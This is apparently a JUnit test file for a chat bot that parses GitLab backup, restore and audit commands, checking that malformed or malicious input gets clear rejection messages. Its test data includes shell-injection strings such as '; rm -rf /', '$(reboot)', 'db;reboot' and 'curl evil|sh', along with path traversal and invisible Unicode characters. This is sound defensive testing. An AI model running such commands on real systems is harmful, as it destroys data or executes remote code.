package io.gitlabopsbot.command;

import static io.gitlabopsbot.command.CommandParserTest.parser;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.gitlabopsbot.command.ParseResult.Invalid;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class CommandParserRejectionTest {

  static final String BACKUP_NOW = "/gitlab backup now [--skip list] [--dry-run]";
  static final String RESTORE = "/gitlab restore <timestamp>";
  static final String AUDIT = "/gitlab audit [n]";
  static final String TARGET_EXPECTED =
      ": expected a target name: lower-case letters, digits and -, at most 63 characters";
  static final String SKIP_EXPECTED = ": expected a list of db, repositories, uploads";
  static final String ID_EXPECTED = ": expected a backup ID like 1700000000_2024_01_01_17.5.0";
  static final String N_EXPECTED = ": expected a number from 1 to 200";

  static Stream<Arguments> wrongCommands() {
    return Stream.of(
        arguments("backup", "`backup` needs a subcommand: use one of now, list"),
        arguments("BACKUP --dry-run", "`backup` needs a subcommand: use one of now, list"),
        arguments("backup foo", "unknown `backup` command `foo`: use one of now, list"),
        arguments(
            "backup <!here>", "unknown `backup` command `&lt;!here&gt;`: use one of now, list"),
        arguments("foo", "unknown command `foo`"),
        arguments("bakup now", "unknown command `bakup` — did you mean `backup`?"),
        arguments("hepl", "unknown command `hepl` — did you mean `help`?"),
        arguments("AUDT 5", "unknown command `AUDT` — did you mean `audit`?"),
        arguments("\"backup now\"", "unknown command `backup now`"),
        arguments("bac\u212Aup now", "unknown command `bac\u212Aup` — did you mean `backup`?"),
        arguments(
            "--dry-run backup now", "the command must come first, before flags like `--dry-run`"),
        arguments(
            "--target prod backup now",
            "the command must come first, before flags like `--target`"),
        arguments("-x help", "the command must come first, before flags like `-x`"),
        arguments("<!channel>", "unknown command `&lt;!channel&gt;`"),
        arguments("&lt;!channel&gt;", "unknown command `&lt;!channel&gt;`"),
        arguments("&lt;@U123|bob&gt; hi", "unknown command `&lt;@U123|bob&gt;`"),
        arguments("; rm -rf /", "unknown command `;`"),
        arguments("$(reboot)", "unknown command `$(reboot)`"),
        arguments("`id`", "unknown command `'id'`"),
        arguments("a".repeat(60), "unknown command `" + "a".repeat(40) + "…`"),
        arguments("помощь", "unknown command `помощь`"),
        arguments("🚀", "unknown command `🚀`"));
  }

  @ParameterizedTest
  @MethodSource("wrongCommands")
  void parse_whenCommandUnknown_namesItWithoutUsage(String text, String problem) {
    assertThat(parser().parse(text)).isEqualTo(new Invalid(problem, null));
  }

  static Stream<Arguments> wrongArguments() {
    return Stream.of(
        arguments(
            "backup now --skip db --skip uploads", "--skip is given more than once", BACKUP_NOW),
        arguments(
            "backup now --dry-run --DRY-RUN", "--dry-run is given more than once", BACKUP_NOW),
        arguments("backup now --dry-run=x", "--dry-run takes no value", BACKUP_NOW),
        arguments("backup now --skip", "--skip needs a value" + SKIP_EXPECTED, BACKUP_NOW),
        arguments(
            "backup now --skip --dry-run", "--skip needs a value" + SKIP_EXPECTED, BACKUP_NOW),
        arguments("backup now --force", "unknown flag `--force` for `backup now`", BACKUP_NOW),
        arguments(
            "backup now --force=secret", "unknown flag `--force` for `backup now`", BACKUP_NOW),
        arguments("backup now -f", "`-f` is not a flag: flags start with --", BACKUP_NOW),
        arguments(
            "backup now —dry-run",
            "`—dry-run` starts with a typographic dash: write flags with two hyphens (--)",
            BACKUP_NOW),
        arguments(
            "backup now –skip db",
            "`–skip` starts with a typographic dash: write flags with two hyphens (--)",
            BACKUP_NOW),
        arguments(
            "backup now --skip abc",
            "`abc` is not a valid value for --skip" + SKIP_EXPECTED,
            BACKUP_NOW),
        arguments(
            "backup now --skip \"-db\"",
            "`-db` is not a valid value for --skip" + SKIP_EXPECTED,
            BACKUP_NOW),
        arguments(
            "backup now --skip 'db;reboot'",
            "`db;reboot` is not a valid value for --skip" + SKIP_EXPECTED,
            BACKUP_NOW),
        arguments(
            "backup now --target=../../etc",
            "`../../etc` is not a valid value for --target" + TARGET_EXPECTED,
            BACKUP_NOW),
        arguments(
            "backup now --target \"\"",
            "`\"\"` is not a valid value for --target" + TARGET_EXPECTED,
            BACKUP_NOW),
        arguments(
            "backup now --target=",
            "`\"\"` is not a valid value for --target" + TARGET_EXPECTED,
            BACKUP_NOW),
        arguments(
            "backup now --target Prod",
            "`Prod` is not a valid value for --target" + TARGET_EXPECTED,
            BACKUP_NOW),
        arguments(
            "backup now --target -prod",
            "`-prod` is not a valid value for --target" + TARGET_EXPECTED,
            BACKUP_NOW),
        arguments(
            "backup now --target prod-",
            "`prod-` is not a valid value for --target" + TARGET_EXPECTED,
            BACKUP_NOW),
        arguments(
            "backup now --target " + "a".repeat(64),
            "`" + "a".repeat(40) + "…` is not a valid value for --target" + TARGET_EXPECTED,
            BACKUP_NOW),
        arguments("backup now --target", "--target needs a value" + TARGET_EXPECTED, BACKUP_NOW),
        arguments("restore", "missing &lt;timestamp&gt;", RESTORE),
        arguments("restore --target prod", "missing &lt;timestamp&gt;", RESTORE),
        arguments("restore abc", "`abc` is not a valid timestamp" + ID_EXPECTED, RESTORE),
        arguments("restore 1700000000_2024_01_01 extra", "unexpected argument `extra`", RESTORE),
        arguments("restore ; rm -rf /", "`;` is not a valid timestamp" + ID_EXPECTED, RESTORE),
        arguments(
            "restore $(reboot)", "`$(reboot)` is not a valid timestamp" + ID_EXPECTED, RESTORE),
        arguments("restore `id`", "`'id'` is not a valid timestamp" + ID_EXPECTED, RESTORE),
        arguments(
            "restore &lt;!channel&gt;",
            "`&lt;!channel&gt;` is not a valid timestamp" + ID_EXPECTED,
            RESTORE),
        arguments(
            "restore &amp;lt;script&amp;gt;",
            "`&amp;lt;script&amp;gt;` is not a valid timestamp" + ID_EXPECTED,
            RESTORE),
        arguments(
            "restore &lt;https://evil.example|click&gt;",
            "`&lt;https://evil.example|click&gt;` is not a valid timestamp" + ID_EXPECTED,
            RESTORE),
        arguments(
            "audit &amp;&amp; curl evil|sh", "`&amp;&amp;` is not a valid n" + N_EXPECTED, AUDIT),
        arguments("audit 5 &amp;&amp; curl evil|sh", "unexpected argument `&amp;&amp;`", AUDIT),
        arguments("audit 0", "`0` is not a valid n" + N_EXPECTED, AUDIT),
        arguments("audit 201", "`201` is not a valid n" + N_EXPECTED, AUDIT),
        arguments("audit 007", "`007` is not a valid n" + N_EXPECTED, AUDIT),
        arguments("audit -1", "`-1` is not a flag: flags start with --", AUDIT),
        arguments("audit ５", "`５` is not a valid n" + N_EXPECTED, AUDIT),
        arguments("audit ٣", "`٣` is not a valid n" + N_EXPECTED, AUDIT),
        arguments("audit 🚀", "`🚀` is not a valid n" + N_EXPECTED, AUDIT),
        arguments("audit 5 6", "unexpected argument `6`", AUDIT),
        arguments("audit 5\n6", "unexpected argument `6`", AUDIT),
        arguments("audit '5 6'", "`5 6` is not a valid n" + N_EXPECTED, AUDIT),
        arguments("audit \"a\nb\"", "`a b` is not a valid n" + N_EXPECTED, AUDIT),
        arguments("help me", "unexpected argument `me`", "/gitlab help"));
  }

  @ParameterizedTest
  @MethodSource("wrongArguments")
  void parse_whenArgumentsWrong_explainsWithUsage(String text, String problem, String usage) {
    assertThat(parser().parse(text)).isEqualTo(new Invalid(problem, usage));
  }

  static Stream<Arguments> unreadableInput() {
    return Stream.of(
        arguments(
            "restore " + "1".repeat(993),
            "the command is too long: 1001 characters, the limit is 1000"),
        arguments(
            "x".repeat(100_000), "the command is too long: 100000 characters, the limit is 1000"),
        arguments(
            "help &amp;" + "&amp;".repeat(995),
            "the command is too long: 1001 characters, the limit is 1000"),
        arguments("restore \"abc", "unterminated quote \" at position 9: close it with \""),
        arguments("restore 'abc", "unterminated quote ' at position 9: close it with '"),
        arguments("restore “abc", "unterminated quote “ at position 9: close it with ”"),
        arguments("restore “abc\"", "unterminated quote “ at position 9: close it with ”"),
        arguments("restore \"abc'", "unterminated quote \" at position 9: close it with \""),
        arguments("restore 'a\"b\"", "unterminated quote ' at position 9: close it with '"),
        arguments("restore ‘abc'", "unterminated quote ‘ at position 9: close it with ’"),
        arguments("restore \"a\\\"", "unterminated quote \" at position 9: close it with \""),
        arguments("note don't", "unterminated quote ' at position 9: close it with '"),
        arguments(
            "help\u0000",
            "control character U+0000 at position 5 is not allowed: retype the command without it"),
        arguments(
            "help \u001b[2J",
            "control character U+001B at position 6 is not allowed: retype the command without it"),
        arguments(
            "help\r\n",
            "control character U+000D at position 5 is not allowed: retype the command without it"),
        arguments(
            "help\u007f",
            "control character U+007F at position 5 is not allowed: retype the command without it"),
        arguments(
            "help\u0085",
            "control character U+0085 at position 5 is not allowed: retype the command without it"),
        arguments(
            "restore \u202E0_1",
            "invisible bidirectional-text control U+202E at position 9 is not allowed: retype the command without it"),
        arguments(
            "\u2066help",
            "invisible bidirectional-text control U+2066 at position 1 is not allowed: retype the command without it"),
        arguments(
            "he\u200Dlp",
            "invisible zero-width character U+200D at position 3 is not allowed: retype the command without it"),
        arguments(
            "\uFEFFhelp",
            "invisible zero-width character U+FEFF at position 1 is not allowed: retype the command without it"),
        arguments(
            "audit 1\u200B",
            "invisible zero-width character U+200B at position 8 is not allowed: retype the command without it"),
        arguments(
            "audit 1\u2060",
            "invisible formatting character U+2060 at position 8 is not allowed: retype the command without it"),
        arguments(
            "🚀 \uD800",
            "broken character U+D800 at position 3 is not allowed: retype the command without it"),
        arguments("help" + " x".repeat(30), "too many words: the limit is 30"));
  }

  @ParameterizedTest
  @MethodSource("unreadableInput")
  void parse_whenInputUnreadable_refusesBeforeMatching(String text, String problem) {
    assertThat(parser().parse(text)).isEqualTo(new Invalid(problem, null));
  }
}
